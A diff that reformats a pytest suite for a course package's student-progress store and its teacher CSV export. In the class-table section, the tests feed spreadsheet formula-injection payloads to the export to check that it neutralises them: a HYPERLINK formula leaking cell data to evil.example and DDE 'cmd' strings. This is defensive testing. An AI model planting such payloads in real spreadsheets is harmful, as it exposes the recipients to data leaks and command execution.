@@ -24,17 +24,32 @@ import pytest
 
 import lessons as L
 import lessons.core.config as config
-from conftest import REPO
+from lessons.core.text import t
 from lessons.exercises import progress
 from lessons.exercises.progress import ProgressStore, class_table, progress_path
-from lessons.core.text import t
+
+from conftest import REPO
 
 GOOD = {
-    "00.1": {"lesson": "00", "kind": "choice", "answer": "tkm", "correct": True, "attempts": 2,
-             "first_at": "2026-01-01T00:00:00+00:00", "last_at": "2026-01-01T00:01:00+00:00",
-             "solved_at": "2026-01-01T00:01:00+00:00"},
-    "00.3": {"lesson": "00", "kind": "choice", "answer": "teacher", "correct": False, "attempts": 1,
-             "first_at": "2026-01-01T00:00:00+00:00", "last_at": "2026-01-01T00:00:00+00:00"},
+    "00.1": {
+        "lesson": "00",
+        "kind": "choice",
+        "answer": "tkm",
+        "correct": True,
+        "attempts": 2,
+        "first_at": "2026-01-01T00:00:00+00:00",
+        "last_at": "2026-01-01T00:01:00+00:00",
+        "solved_at": "2026-01-01T00:01:00+00:00",
+    },
+    "00.3": {
+        "lesson": "00",
+        "kind": "choice",
+        "answer": "teacher",
+        "correct": False,
+        "attempts": 1,
+        "first_at": "2026-01-01T00:00:00+00:00",
+        "last_at": "2026-01-01T00:00:00+00:00",
+    },
 }
 
 
@@ -71,6 +86,7 @@ def _backups(folder: Path) -> list[Path]:
 
 # --- 1. a student's own file: every good answer kept, only the bad part set aside ---------
 
+
 def _entries(bad_entries: dict) -> bytes:
     return _json(_progress({**GOOD, **bad_entries}))
 
@@ -94,7 +110,10 @@ def test_a_bad_entry_is_set_aside_and_every_good_answer_kept(name, raw, lang):
     path = progress_path()
     path.parent.mkdir(parents=True)
     path.write_bytes(raw)
-    notice, other = _fixed(t("progress.entries_aside", lang)), _fixed(t("progress.entries_aside", "en" if lang == "vi" else "vi"))
+    notice, other = (
+        _fixed(t("progress.entries_aside", lang)),
+        _fixed(t("progress.entries_aside", "en" if lang == "vi" else "vi")),
+    )
     ex = L.exercise("00.1")  # no traceback; the saved answer is shown again, with the notice
     assert ex.radio.value == "tkm"
     assert notice in ex.feedback.value and other not in ex.feedback.value
@@ -156,9 +175,11 @@ def test_a_truncated_file_keeps_its_complete_answers(lang):
     assert html.escape(t("progress.recovered", lang, kept=2)) in page
 
 
-@pytest.mark.parametrize("raw", [b"\xef\xbb\xbf" + _json(_progress(GOOD)),
-                                 json.dumps(_progress(GOOD), ensure_ascii=False).encode("utf-16")],
-                         ids=["utf8-bom-notepad", "utf16-notepad-unicode"])
+@pytest.mark.parametrize(
+    "raw",
+    [b"\xef\xbb\xbf" + _json(_progress(GOOD)), json.dumps(_progress(GOOD), ensure_ascii=False).encode("utf-16")],
+    ids=["utf8-bom-notepad", "utf16-notepad-unicode"],
+)
 def test_a_file_saved_by_notepad_is_read_as_it_is(raw):
     path = progress_path()
     path.parent.mkdir(parents=True)
@@ -182,7 +203,9 @@ def test_unknown_fields_are_kept_and_not_reported():
 def test_garbage_in_the_notices_list_is_dropped_not_fatal():
     path = progress_path()
     path.parent.mkdir(parents=True)
-    path.write_bytes(_json(_progress(GOOD, notices=[None, 5, {"kind": "file", "why": "<script>", "backup": "<b>x</b>"}])))
+    path.write_bytes(
+        _json(_progress(GOOD, notices=[None, 5, {"kind": "file", "why": "<script>", "backup": "<b>x</b>"}]))
+    )
     page = L.my_progress().data
     assert "<script>" not in page and "<b>x</b>" not in page and html.escape("<b>x</b>") in page  # shown as text
     assert ProgressStore().all() == GOOD
@@ -211,17 +234,25 @@ def test_a_folder_named_progress_json_is_moved_aside(lang):
 
 
 def _in_child(code: str, timeout: float = 20) -> subprocess.CompletedProcess:
-    return subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=timeout,
-                          env={**os.environ, "PYTHONPATH": str(REPO)}, cwd=REPO)
+    return subprocess.run(
+        [sys.executable, "-c", code],
+        capture_output=True,
+        text=True,
+        timeout=timeout,
+        env={**os.environ, "PYTHONPATH": str(REPO)},
+        cwd=REPO,
+    )
 
 
 def test_a_fifo_named_progress_json_does_not_hang_the_exercise(tmp_path):
     folder = tmp_path / "fifo-home"
     folder.mkdir()
     os.mkfifo(folder / "progress.json")
-    code = (f"import os; os.environ['LESSONS_PROGRESS_DIR']={str(folder)!r}\n"
-            "import lessons as L\nL.setup('en') if hasattr(L, 'setup') else None\n"
-            "ex = L.exercise('00.1'); fb = ex.answer('tkm'); print(fb.correct, 'moved aside' in ex.feedback.value)")
+    code = (
+        f"import os; os.environ['LESSONS_PROGRESS_DIR']={str(folder)!r}\n"
+        "import lessons as L\nL.setup('en') if hasattr(L, 'setup') else None\n"
+        "ex = L.exercise('00.1'); fb = ex.answer('tkm'); print(fb.correct, 'moved aside' in ex.feedback.value)"
+    )
     result = _in_child(code)  # a blocking open of the FIFO would hang here until the timeout
     assert result.returncode == 0, result.stderr[-2000:]
     assert result.stdout.split()[-2:] == ["True", "True"]
@@ -262,8 +293,16 @@ def test_the_notice_shows_on_every_exercise_until_seen_in_my_progress(lang):
 def test_an_unrestorable_saved_answer_does_not_break_the_exercise():
     path = progress_path()
     path.parent.mkdir(parents=True)
-    path.write_bytes(_json(_progress({"00.1": {**GOOD["00.1"], "answer": {"weird": [1, 2]}},
-                                      "00.2": {**GOOD["00.3"], "kind": "multi", "answer": 12345}})))
+    path.write_bytes(
+        _json(
+            _progress(
+                {
+                    "00.1": {**GOOD["00.1"], "answer": {"weird": [1, 2]}},
+                    "00.2": {**GOOD["00.3"], "kind": "multi", "answer": 12345},
+                }
+            )
+        )
+    )
     for ex_id in ("00.1", "00.2"):
         ex = L.exercise(ex_id)  # built, no traceback
         assert "Traceback" not in ex.feedback.value
@@ -287,8 +326,12 @@ for i in range(150):
 def test_two_writers_at_once_lose_no_answer(tmp_path, lock):
     path = tmp_path / "progress.json"
     env = {**os.environ, "PYTHONPATH": str(REPO)}
-    writers = [subprocess.Popen([sys.executable, "-c", WRITER, str(path), name, lock], env=env, stderr=subprocess.PIPE, text=True)
-               for name in ("a", "b")]
+    writers = [
+        subprocess.Popen(
+            [sys.executable, "-c", WRITER, str(path), name, lock], env=env, stderr=subprocess.PIPE, text=True
+        )
+        for name in ("a", "b")
+    ]
     for w in writers:
         assert w.wait(timeout=120) == 0, w.stderr.read()[-2000:]
     answers = ProgressStore(path).all()
@@ -307,8 +350,11 @@ time.sleep(60)
 
 def _hold_lock(path: Path, kind: str = "FileLock") -> subprocess.Popen:
     path.parent.mkdir(parents=True, exist_ok=True)
-    proc = subprocess.Popen([sys.executable, "-c", HOLDER, str(path.with_name(path.name + ".lock")), kind],
-                            stdout=subprocess.PIPE, text=True)
+    proc = subprocess.Popen(
+        [sys.executable, "-c", HOLDER, str(path.with_name(path.name + ".lock")), kind],
+        stdout=subprocess.PIPE,
+        text=True,
+    )
     assert proc.stdout.readline().strip() == "held"
     return proc
 
@@ -348,12 +394,16 @@ def test_a_soft_lock_left_by_a_killed_kernel_does_not_block_forever(monkeypatch)
 
 # --- 3. where the file is, and whose it is ---------------------------------------------------
 
-@pytest.mark.parametrize("setting,expected", [
-    ("course-progress", "{home}/course-progress"),
-    ("~/elsewhere", "{home}/elsewhere"),
-    ("{tmp}/absolute", "{tmp}/absolute"),
-    ("", "{home}/.iran-russia-course"),
-])
+
+@pytest.mark.parametrize(
+    "setting,expected",
+    [
+        ("course-progress", "{home}/course-progress"),
+        ("~/elsewhere", "{home}/elsewhere"),
+        ("{tmp}/absolute", "{tmp}/absolute"),
+        ("", "{home}/.iran-russia-course"),
+    ],
+)
 def test_the_progress_folder_is_taken_from_home_not_the_notebook_folder(setting, expected, tmp_path, monkeypatch):
     home, notebook_folder = tmp_path / "home", tmp_path / "notebooks" / "vi"
     home.mkdir()
@@ -404,27 +454,53 @@ def test_the_hub_login_wins_over_a_given_name(monkeypatch, lang):
 def test_a_name_that_cannot_be_one_gets_a_message(bad, lang):
     page = L.my_progress(name=bad).data
     assert _fixed(t("progress.name_bad", lang)) in page and "Traceback" not in page
-    assert not progress_path().exists() or "student_given" not in json.loads(progress_path().read_text(encoding="utf-8"))
+    assert not progress_path().exists() or "student_given" not in json.loads(
+        progress_path().read_text(encoding="utf-8")
+    )
 
 
 def test_a_name_that_is_not_text_is_refused_by_the_call_itself(lang):
     with pytest.raises(L.CourseError) as err:
         L.my_progress(name=42)
     assert "“name”" in str(err.value) and ("gọi" in str(err.value).lower()) == (lang == "vi")
-    assert not progress_path().exists() or "student_given" not in json.loads(progress_path().read_text(encoding="utf-8"))
+    assert not progress_path().exists() or "student_given" not in json.loads(
+        progress_path().read_text(encoding="utf-8")
+    )
 
 
 # --- 4. the teacher's class table from hostile files -----------------------------------------
 
-PAYLOADS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
-            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\uff1d1+1"]
+PAYLOADS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\uff1d1+1",
+]
 
 
 def _collect(folder: Path, tmp_path: Path, timeout: float = 60) -> tuple[subprocess.CompletedProcess, Path, Path]:
     wide, long = tmp_path / "class.csv", tmp_path / "answers.csv"
-    result = subprocess.run([sys.executable, "-m", "lessons.exercises.progress", "collect", str(folder), "-o", str(wide), "--long", str(long)],
-                            capture_output=True, text=True, cwd=REPO, timeout=timeout,
-                            env={**os.environ, "PYTHONPATH": str(REPO)})
+    result = subprocess.run(
+        [
+            sys.executable,
+            "-m",
+            "lessons.exercises.progress",
+            "collect",
+            str(folder),
+            "-o",
+            str(wide),
+            "--long",
+            str(long),
+        ],
+        capture_output=True,
+        text=True,
+        cwd=REPO,
+        timeout=timeout,
+        env={**os.environ, "PYTHONPATH": str(REPO)},
+    )
     return result, wide, long
 
 
@@ -443,9 +519,18 @@ def _student_file(folder: Path, who: str, data: dict | bytes) -> Path:
 @pytest.mark.parametrize("payload", PAYLOADS, ids=["hyperlink", "plus-dde", "minus", "at", "tab", "cr", "fullwidth"])
 def test_collect_writes_no_cell_a_spreadsheet_would_run(payload, tmp_path):
     folder = tmp_path / "class"
-    _student_file(folder, "an", {"version": 1, "student": payload,
-                                 "answers": {"00.4": {"lesson": payload, "kind": payload, "answer": payload, "attempts": 1},
-                                             payload: {"answer": payload, "kind": "short", "attempts": 1}}})
+    _student_file(
+        folder,
+        "an",
+        {
+            "version": 1,
+            "student": payload,
+            "answers": {
+                "00.4": {"lesson": payload, "kind": payload, "answer": payload, "attempts": 1},
+                payload: {"answer": payload, "kind": "short", "attempts": 1},
+            },
+        },
+    )
     result, wide, long = _collect(folder, tmp_path)
     assert result.returncode == 0 and "Traceback" not in result.stderr
     for table in (wide, long):
@@ -460,8 +545,15 @@ def test_collect_writes_no_cell_a_spreadsheet_would_run(payload, tmp_path):
 @pytest.mark.parametrize("control", ["\u202e", "\u2066", "\u200f", "\u061c"])
 def test_collect_drops_direction_controls_that_would_show_a_name_reversed(control, tmp_path):
     folder = tmp_path / "class"
-    _student_file(folder, "an", {"version": 1, "student": f"{control}=cmd An", "answers": {
-        "00.4": {"lesson": "00", "kind": "short", "answer": f"a{control}b", "attempts": 1}}})
+    _student_file(
+        folder,
+        "an",
+        {
+            "version": 1,
+            "student": f"{control}=cmd An",
+            "answers": {"00.4": {"lesson": "00", "kind": "short", "answer": f"a{control}b", "attempts": 1}},
+        },
+    )
     result, wide, long = _collect(folder, tmp_path)
     assert result.returncode == 0
     cells = [c for table in (wide, long) for row in _cells(table) for c in row]
@@ -507,7 +599,9 @@ def test_one_bad_file_never_stops_the_class_table(tmp_path):
     folder = tmp_path / "class"
     _student_file(folder, "an", _progress(GOOD))
     _student_file(folder, "binh", bytes(range(256)))
-    _student_file(folder, "chi", {"version": 1, "student": "chi", "answers": {**GOOD, "00.2": None, "00.4": {"attempts": "two"}}})
+    _student_file(
+        folder, "chi", {"version": 1, "student": "chi", "answers": {**GOOD, "00.2": None, "00.4": {"attempts": "two"}}}
+    )
     _student_file(folder, "dung", b"null")
     (folder / "em" / "progress.json").mkdir(parents=True)
     result, wide, long = _collect(folder, tmp_path)
@@ -626,7 +720,9 @@ def test_an_attempt_count_of_another_type_is_repaired_and_the_original_kept(atte
     path.write_bytes(_entries({"00.2": {**GOOD["00.3"], "attempts": attempts}}))
     assert ProgressStore().get("00.2")["attempts"] == kept
     side = json.loads(_backups(path.parent)[0].read_text(encoding="utf-8"))
-    assert side["answers"]["00.2"]["attempts"] == attempts and type(side["answers"]["00.2"]["attempts"]) is type(attempts)
+    assert side["answers"]["00.2"]["attempts"] == attempts and type(side["answers"]["00.2"]["attempts"]) is type(
+        attempts
+    )
     entry = ProgressStore().record("00.2", lesson="00", kind="multi", answer=["kazan"], correct=False)
     assert entry["attempts"] == kept + 1
 
@@ -636,8 +732,10 @@ def test_a_link_to_a_device_nowhere_or_itself_never_hangs_or_breaks(target, tmp_
     path = progress_path()
     path.parent.mkdir(parents=True)
     path.symlink_to(target)
-    code = (f"import os; os.environ['LESSONS_PROGRESS_DIR']={str(path.parent)!r}\n"
-            "import lessons as L\nex = L.exercise('00.1'); print(ex.answer('tkm').correct)")
+    code = (
+        f"import os; os.environ['LESSONS_PROGRESS_DIR']={str(path.parent)!r}\n"
+        "import lessons as L\nex = L.exercise('00.1'); print(ex.answer('tkm').correct)"
+    )
     result = _in_child(code)  # reading /dev/zero through the link would never end
     assert result.returncode == 0 and result.stdout.split()[-1] == "True", result.stderr[-2000:]
     assert path.is_file() and not path.is_symlink()
